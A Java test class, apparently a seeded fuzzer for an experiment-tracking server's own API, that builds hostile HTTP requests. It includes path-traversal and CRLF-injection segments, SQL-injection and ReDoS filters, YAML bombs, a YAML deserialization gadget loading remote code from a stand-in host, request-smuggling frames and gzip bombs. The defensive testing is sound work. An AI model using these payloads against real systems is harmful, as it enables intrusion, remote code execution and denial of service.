package dev.descent.server.journey;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.SplittableRandom;

/**
 * Malformed, oversized, wrongly typed and hostile requests against both dialects, as bytes. The same seed makes the same requests.
 * {@code RUN} and {@code EXP} stand for a run and an experiment that exist; artifacts that a request tries to leave somewhere have
 * {@value #MARK} in their name.
 */
final class HostileRequests {
    static final String MARK = "hostile-mark";

    /** Method, address, and a body that the address would take. */
    private record Call(String method, String path, String body) {}

    private static final String V1 = "/api/v1/";
    private static final String MLFLOW = "/api/2.0/mlflow/";

    private static final List<Call> CALLS = List.of(
            new Call("POST", V1 + "experiments", "{\"name\":\"h-NUMBER\",\"tags\":{\"a\":\"b\"}}"),
            new Call("GET", V1 + "experiments?view=all&text=x&offset=0&limit=10", ""),
            new Call("GET", V1 + "experiments/by-name?name=x", ""),
            new Call(
                    "PATCH",
                    V1 + "experiments/EXP",
                    "{\"note\":\"n\",\"tags\":{\"a\":\"b\"},\"removed_tags\":[\"a\"]}"),
            new Call(
                    "POST",
                    V1 + "runs",
                    "{\"experiment\":\"EXP\",\"name\":\"r\",\"status\":\"running\",\"parameters\":{\"a\":\"1\"}}"),
            new Call(
                    "POST",
                    V1 + "runs/search",
                    "{\"experiments\":[\"EXP\"],\"filter\":\"metrics.loss < 1\",\"order_by\":[\"metrics.loss ASC\"],\"limit\":5}"),
            new Call("GET", V1 + "runs/keys?experiment=EXP", ""),
            new Call("GET", V1 + "runs/RUN", ""),
            new Call("PATCH", V1 + "runs/RUN", "{\"name\":\"n\",\"tags\":{\"k\":\"v\"}}"),
            new Call("POST", V1 + "runs/RUN/parameters", "{\"p-NUMBER\":0.1,\"x\":\"y\"}"),
            new Call(
                    "POST",
                    V1 + "runs/RUN/metrics",
                    "{\"client\":\"c\",\"sequence\":1,\"series\":[{\"key\":\"k\",\"steps\":[1,2],\"times\":[1,2],\"values\":[0.5,0.25]}]}"),
            new Call("POST", V1 + "runs/RUN/metrics", "{\"loss\":0.3,\"step\":12,\"time\":5}"),
            new Call("GET", V1 + "runs/RUN/curves/loss?buckets=320&axis=step&from=0&to=9", ""),
            new Call(
                    "POST",
                    V1 + "curves",
                    "{\"runs\":[\"RUN\"],\"metrics\":[\"loss\"],\"buckets\":10,\"axis\":\"time\"}"),
            new Call("GET", V1 + "runs/RUN/points/loss?offset=0&limit=10", ""),
            new Call("POST", V1 + "runs/summaries", "{\"runs\":[\"RUN\"]}"),
            new Call("GET", V1 + "runs/RUN/findings", ""),
            new Call("GET", V1 + "runs/RUN/logs?offset=0&limit=10", ""),
            new Call(
                    "POST",
                    V1 + "runs/RUN/logs",
                    "{\"lines\":[{\"time\":\"2026-01-01T00:00:00Z\",\"stream\":\"out\",\"text\":\"x\"}]}"),
            new Call("GET", V1 + "runs/RUN/artifacts?path=a", ""),
            new Call("PUT", V1 + "runs/RUN/artifacts/" + MARK + "-NUMBER", "content"),
            new Call("GET", V1 + "runs/RUN/artifacts/" + MARK + "-1", ""),
            new Call("DELETE", V1 + "runs/RUN/artifacts/" + MARK + "-NUMBER", ""),
            new Call("POST", V1 + "runs/RUN/end", "{\"status\":\"finished\",\"reason\":\"r\",\"exit_code\":0}"),
            new Call("POST", V1 + "runs/RUN/start", ""),
            new Call("POST", V1 + "runs/RUN/stop", "{\"reason\":\"enough\"}"),
            new Call("POST", V1 + "runs/RUN/heartbeat", ""),
            new Call(
                    "POST",
                    V1 + "sweeps/check",
                    "{\"file\":\"recipe: classifier\\nmethod: random\\nparameters:\\n  units: {min: 1, max: 3}\\nbudget: {trials: 1}\",\"folder\":\"/tmp\"}"),
            new Call("GET", V1 + "sweeps?experiment=EXP", ""),
            new Call("GET", V1 + "sweeps/s-1", ""),
            new Call("POST", V1 + "sweeps/s-1/pause", ""),
            new Call("GET", V1 + "recipes/classifier", ""),
            new Call(
                    "POST",
                    V1 + "agents",
                    "{\"name\":\"a\",\"protocol\":1,\"engine\":\"local\",\"slots\":{\"cpu\":1,\"gpu\":0},\"labels\":{},\"machine\":{}}"),
            new Call("POST", V1 + "agents/a-999999/lease", "{\"free\":{\"cpu\":1,\"gpu\":0},\"longest_wait\":0}"),
            new Call("POST", V1 + "agents/a-1/renew", "{\"held\":[{\"job\":\"j-1\",\"attempt\":1}]}"),
            new Call(
                    "POST",
                    V1 + "agents/a-1/ended",
                    "{\"job\":\"j-1\",\"attempt\":1,\"exit_code\":0,\"last_lines\":[]}"),
            new Call(
                    "POST",
                    MLFLOW + "experiments/create",
                    "{\"name\":\"m-NUMBER\",\"tags\":[{\"key\":\"a\",\"value\":\"b\"}]}"),
            new Call(
                    "POST",
                    MLFLOW + "experiments/search",
                    "{\"max_results\":5,\"filter\":\"name LIKE 'x%'\",\"order_by\":[\"name DESC\"],\"view_type\":\"ALL\"}"),
            new Call("GET", MLFLOW + "experiments/get?experiment_id=EXP", ""),
            new Call("GET", MLFLOW + "experiments/get-by-name?experiment_name=x", ""),
            new Call("POST", MLFLOW + "experiments/update", "{\"experiment_id\":\"EXP\",\"new_name\":\"u-NUMBER\"}"),
            new Call(
                    "POST",
                    MLFLOW + "experiments/set-experiment-tag",
                    "{\"experiment_id\":\"EXP\",\"key\":\"k\",\"value\":\"v\"}"),
            new Call(
                    "POST",
                    MLFLOW + "runs/create",
                    "{\"experiment_id\":\"EXP\",\"start_time\":1,\"run_name\":\"n\",\"tags\":[{\"key\":\"a\",\"value\":\"b\"}]}"),
            new Call("GET", MLFLOW + "runs/get?run_id=RUN", ""),
            new Call("POST", MLFLOW + "runs/update", "{\"run_id\":\"RUN\",\"status\":\"FINISHED\",\"end_time\":5}"),
            new Call(
                    "POST",
                    MLFLOW + "runs/search",
                    "{\"experiment_ids\":[\"EXP\"],\"filter\":\"params.a = '1' and metrics.loss > 0\",\"max_results\":7,\"order_by\":[\"metrics.loss\"]}"),
            new Call(
                    "POST",
                    MLFLOW + "runs/log-metric",
                    "{\"run_id\":\"RUN\",\"key\":\"k\",\"value\":1.5,\"timestamp\":7,\"step\":3}"),
            new Call(
                    "POST", MLFLOW + "runs/log-parameter", "{\"run_id\":\"RUN\",\"key\":\"q-NUMBER\",\"value\":\"v\"}"),
            new Call("POST", MLFLOW + "runs/set-tag", "{\"run_id\":\"RUN\",\"key\":\"k\",\"value\":\"v\"}"),
            new Call("POST", MLFLOW + "runs/delete-tag", "{\"run_id\":\"RUN\",\"key\":\"k\"}"),
            new Call(
                    "POST",
                    MLFLOW + "runs/log-batch",
                    "{\"run_id\":\"RUN\",\"metrics\":[{\"key\":\"k\",\"value\":1.5,\"timestamp\":\"7\",\"step\":\"3\"}],\"params\":[{\"key\":\"b-NUMBER\",\"value\":\"v\"}],\"tags\":[{\"key\":\"k\",\"value\":\"v\"}]}"),
            new Call("GET", MLFLOW + "metrics/get-history?run_id=RUN&metric_key=k&max_results=5&page_token=x", ""),
            new Call(
                    "GET",
                    "/ajax-api/2.0/mlflow/metrics/get-history-bulk-interval?run_ids=RUN&metric_key=k&start_step=0&end_step=9&max_results=5",
                    ""),
            new Call("GET", MLFLOW + "artifacts/list?run_id=RUN&path=a", ""),
            new Call("PUT", "/api/2.0/mlflow-artifacts/artifacts/EXP/RUN/artifacts/" + MARK + "-NUMBER", "content"),
            new Call("GET", "/api/2.0/mlflow-artifacts/artifacts?path=EXP/RUN/artifacts", ""),
            new Call(
                    "POST",
                    MLFLOW + "registered-models/create",
                    "{\"name\":\"reg-NUMBER\",\"tags\":[{\"key\":\"a\",\"value\":\"b\"}],\"description\":\"d\"}"),
            new Call(
                    "POST",
                    MLFLOW + "model-versions/create",
                    "{\"name\":\"reg\",\"source\":\"file:///etc\",\"run_id\":\"RUN\"}"),
            new Call(
                    "GET",
                    MLFLOW + "registered-models/search?filter=name%20LIKE%20'x'&max_results=5&order_by=name",
                    ""),
            new Call("GET", MLFLOW + "model-versions/search?filter=name%3D'x'", ""),
            new Call("POST", MLFLOW + "traces/search", "{}"),
            new Call("GET", "/docs/architecture", ""),
            new Call("GET", "/q/health/ready", ""),
            new Call("POST", "/login", "token=x"));

    /** What may stand for a segment of an address. */
    private static final List<String> SEGMENTS = List.of(
            "..",
            ".",
            "%2e%2e",
            "%2e%2e%2f" + MARK,
            "%252e%252e%252f" + MARK,
            "..%5c" + MARK,
            "..%2f..%2f" + MARK,
            "..%c0%af" + MARK,
            "%00" + MARK,
            MARK + "%00",
            MARK + "%0d%0aX: y",
            "%ff%fe" + MARK,
            "%",
            "%zz",
            "..;/" + MARK,
            "%2fetc%2f" + MARK,
            "//" + MARK,
            "0",
            "-1",
            "99999999999999999999",
            "00000000000000000000000000000000",
            "%F0%9F%98%80",
            "a".repeat(300),
            "a".repeat(5000),
            "'%20or%20'1'='1",
            "s-99999999999999999999",
            "NaN",
            "a%2Fb",
            "C:%5C" + MARK,
            "~root",
            "CON",
            "*",
            "%7B%7D",
            "<script>",
            "\u00e9");

    private static final List<String> FILTERS = List.of(
            "(".repeat(20_000),
            "not ".repeat(5_000),
            "metrics.loss < ",
            "a".repeat(50_000),
            "params.x = '",
            "1=1",
            "metrics.`",
            "metrics.loss > 1e999",
            "params.a = 'b' and ".repeat(3_000) + "params.a='b'",
            "attributes.x IS NULL",
            "tags.\"'; drop table run; --\" = 'x'",
            "params.a RLIKE '(a+)+$'",
            "params.a LIKE '" + "%a".repeat(2_000) + "'",
            "metrics.loss BETWEEN 1 AND",
            "\u0000",
            "params.a IN (" + "'x',".repeat(40_000) + "'x')",
            "findings.since < 99999999999999999999");

    private static final List<String> TYPES = List.of(
            "application/json",
            "application/json",
            "application/json",
            "application/json; charset=utf-16",
            "text/plain",
            "application/xml",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "",
            "*/*",
            "a/b/c",
            "\u00ff");

    private static final List<String> METHODS =
            List.of("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "get", "CONNECT");

    private static final byte[] BOMB = HostileBodies.bomb(64, ' ');
    private static final byte[] DEEP_BOMB = HostileBodies.bomb(40, '[');

    private final SplittableRandom random;
    private final HostileBodies bodies;
    private final String run;
    private final String experiment;

    HostileRequests(long seed, String run, String experiment) {
        this.random = new SplittableRandom(seed);
        this.bodies = new HostileBodies(random);
        this.run = run;
        this.experiment = experiment;
    }

    /**
     * A request.
     *
     * @param whole whether its body is as long as its headers say
     */
    @SuppressWarnings("ArrayRecordComponent") // compared by nobody
    record Request(byte[] bytes, boolean whole) {}

    /** The next request. */
    Request next() {
        return random.nextInt(20) == 0 ? new Request(misframed(), false) : new Request(framed(), true);
    }

    private byte[] framed() {
        Call call = bodies.pick(CALLS);
        String path = named(call.path());
        String body = named(call.body());
        return switch (random.nextInt(19)) {
            case 0, 1 -> request(call.method(), strange(path), "", body.getBytes(UTF_8));
            case 2, 3 -> request(call.method(), asked(path), "", body.getBytes(UTF_8));
            case 4 -> request(bodies.pick(METHODS), path, "", body.getBytes(UTF_8));
            case 5 -> request(call.method(), path, flood(), body.getBytes(UTF_8));
            case 6 -> request(call.method(), path, "Content-Encoding: gzip\r\n", packed(body));
            case 7 -> search();
            case 8 -> sweepFile();
            default -> request(call.method(), path, "", bodies.of(body.isEmpty() ? "{}" : body));
        };
    }

    private String named(String text) {
        return text.replace("RUN", run)
                .replace("EXP", experiment)
                .replace("NUMBER", String.valueOf(random.nextInt(1_000_000)));
    }

    private String strange(String path) {
        String[] segments = path.split("/", -1);
        segments[random.nextInt(1, segments.length)] = bodies.pick(SEGMENTS);
        return String.join("/", segments);
    }

    private String asked(String path) {
        String value = switch (random.nextInt(5)) {
            case 0 -> "99999999999999999999";
            case 1 -> "-1";
            case 2 -> "x".repeat(random.nextInt(20_000));
            case 3 -> "%00%ff%zz";
            default -> bodies.pick(SEGMENTS).replace(" ", "%20");
        };
        if (!path.contains("?")) {
            return path + "?" + "a=b&".repeat(random.nextInt(3_000)) + "limit=" + value;
        }
        return path.replaceFirst("=[^=&]*$", "=" + java.util.regex.Matcher.quoteReplacement(value));
    }

    private byte[] search() {
        String filter = bodies.pick(FILTERS).replace("\"", "\\\"").replace("\u0000", "\\u0000");
        return random.nextBoolean()
                ? request(
                        "POST",
                        V1 + "runs/search",
                        "",
                        ("{\"filter\":\"" + filter + "\",\"order_by\":[\"" + filter + "\"]}").getBytes(UTF_8))
                : request(
                        "POST",
                        MLFLOW + "runs/search",
                        "",
                        ("{\"experiment_ids\":[\"" + experiment + "\"],\"filter\":\"" + filter + "\"}")
                                .getBytes(UTF_8));
    }

    private byte[] sweepFile() {
        String yaml = switch (random.nextInt(7)) {
            case 0 -> "[".repeat(20_000);
            case 1 -> "{a: ".repeat(20_000);
            case 2 -> "- ".repeat(20_000);
            case 3 ->
                "a: &a [x,x,x,x,x,x,x,x,x]\\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\\nd: &d [*c,*c,*c,*c,*c,*c,*c]\\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\\nf: [*e,*e,*e,*e,*e,*e,*e,*e]";
            case 4 ->
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\\\"http://x/\\\"]]]]";
            case 5 ->
                "recipe: classifier\\nmethod: grid\\nparameters: {units: {min: 0, max: 99999999999}, a: {values: ["
                        + "1,".repeat(20_000) + "2]}}\\nbudget: {trials: 1e99}";
            default -> "parameters: &p {x: {parameters: *p}}";
        };
        return request("POST", V1 + "sweeps/check", "", ("{\"file\":\"" + yaml + "\"}").getBytes(UTF_8));
    }

    private String flood() {
        return switch (random.nextInt(5)) {
            case 0 -> "X-Flood: y\r\n".repeat(random.nextInt(5_000));
            case 1 -> "X-Long: " + "y".repeat(random.nextInt(200_000)) + "\r\n";
            case 2 -> "Authorization: Bearer " + "t".repeat(random.nextInt(10_000)) + "\r\n";
            case 3 ->
                "Cookie: " + "a=b; ".repeat(random.nextInt(3_000)) + "\r\nRange: bytes=9-1,-0\r\nIf-None-Match: \"\r\n";
            default ->
                "Accept: " + bodies.pick(TYPES)
                        + "\r\nOrigin: null\r\nX-HTTP-Method-Override: DELETE\r\nExpect: 100-continue\r\n";
        };
    }

    private byte[] packed(String body) {
        return switch (random.nextInt(40)) {
            case 0 -> BOMB;
            case 1 -> DEEP_BOMB;
            case 2, 3, 4 -> body.getBytes(UTF_8);
            case 5, 6 -> java.util.Arrays.copyOf(HostileBodies.packed(body.getBytes(UTF_8)), 15);
            default -> HostileBodies.packed(bodies.of(body.isEmpty() ? "{}" : body));
        };
    }

    private byte[] misframed() {
        Call call = bodies.pick(CALLS);
        String body = named(call.body());
        String start = call.method() + " " + named(call.path())
                + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\n";
        return switch (random.nextInt(9)) {
            case 0 -> (start + "Content-Length: 1000000\r\n\r\n" + body).getBytes(UTF_8);
            case 1 -> (start + "Content-Length: -5\r\n\r\n" + body).getBytes(UTF_8);
            case 2 -> (start + "Content-Length: 99999999999999999999\r\n\r\n" + body).getBytes(UTF_8);
            case 3 -> (start + "Transfer-Encoding: chunked\r\n\r\nffffffff\r\n" + body).getBytes(UTF_8);
            case 4 ->
                (start + "Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n")
                        .getBytes(UTF_8);
            case 5 -> (start + "Content-Length: 999999999999\r\n\r\n").getBytes(UTF_8);
            case 6 ->
                start.replace("Host: localhost\r\n", "Host: evil.example\r\n")
                        .concat("\r\n")
                        .getBytes(UTF_8);
            case 7 -> start.replace("HTTP/1.1", "HTTP/9.9").concat("\r\n").getBytes(UTF_8);
            default -> bodies.of(start);
        };
    }

    private byte[] request(String method, String path, String headers, byte[] body) {
        String type = random.nextInt(4) == 0 ? bodies.pick(TYPES) : "application/json";
        String head = method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers
                + (type.isEmpty() ? "" : "Content-Type: " + type + "\r\n")
                + "Content-Length: " + body.length + "\r\n\r\n";
        ByteArrayOutputStream whole = new ByteArrayOutputStream();
        whole.writeBytes(head.getBytes(path.chars().anyMatch(c -> c > 255) ? UTF_8 : ISO_8859_1));
        whole.writeBytes(body);
        return whole.toByteArray();
    }
}
